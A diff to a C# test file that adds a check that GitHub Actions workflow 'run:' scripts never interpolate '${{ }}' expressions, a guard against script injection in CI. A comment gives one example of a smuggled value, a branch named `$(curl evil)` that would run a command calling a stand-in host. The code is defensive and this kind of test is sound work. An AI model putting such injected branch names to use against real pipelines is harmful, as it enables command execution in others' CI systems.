@@ -44,4 +44,30 @@ public sealed class SampleWorkflowTests
         Assert.NotEmpty(((YamlSequenceNode)At(workflow, "on", "schedule")).Children);
         Assert.Equal("write", At(workflow, "permissions", "issues").ToString());
     }
+
+    [Theory]
+    [InlineData("pull-request.yml")]
+    [InlineData("release.yml")]
+    [InlineData("monitor.yml")]
+    [InlineData("../action.yml")]
+    public void No_expression_is_interpolated_into_a_script(string name)
+    {
+        // ${{ }} in run: is pasted into the script before it runs: a branch named `$(curl evil)` would run. Values go
+        // through env: instead.
+        var root = Load(name);
+        var scripts = Descendants(root).OfType<YamlMappingNode>()
+            .Select(m => m.Children.TryGetValue(new YamlScalarNode("run"), out var run) ? run.ToString() : null)
+            .OfType<string>()
+            .ToList();
+
+        Assert.NotEmpty(scripts);
+        Assert.All(scripts, script => Assert.DoesNotContain("${{", script, StringComparison.Ordinal));
+    }
+
+    private static IEnumerable<YamlNode> Descendants(YamlNode node) => node switch
+    {
+        YamlMappingNode map => map.Children.Values.SelectMany(Descendants).Prepend(map),
+        YamlSequenceNode list => list.Children.SelectMany(Descendants).Prepend(list),
+        _ => [node],
+    };
 }
